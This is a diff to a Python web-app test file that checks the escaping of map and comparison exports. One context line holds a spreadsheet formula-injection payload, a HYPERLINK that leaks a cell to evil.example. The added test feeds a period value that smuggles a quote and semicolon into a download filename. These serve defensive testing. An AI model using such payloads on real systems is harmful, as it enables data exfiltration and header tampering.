@@ -102,3 +102,13 @@ def test_map_download_names_the_units_as_text_of_an_image(client, formulas):
     assert "sandbox" in response["Content-Security-Policy"]
     svg = response.content.decode()
     assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Nura&quot;)" in svg
+
+
+def test_a_period_typed_into_the_address_cannot_break_the_download(client, world):
+    query = "?t=355200000&i=income&period=" + "20%2F21%22%3B%5B1%5D"  # 20/21";[1]
+    for file_format in ("xlsx", "csv"):
+        response = client.get(reverse("indicators:compare_export", args=[file_format]) + query)
+        assert response.status_code == 200
+        assert response["Content-Disposition"] == (
+            f'attachment; filename="aimaq-comparison-20-21-1-.{file_format}"'
+        )
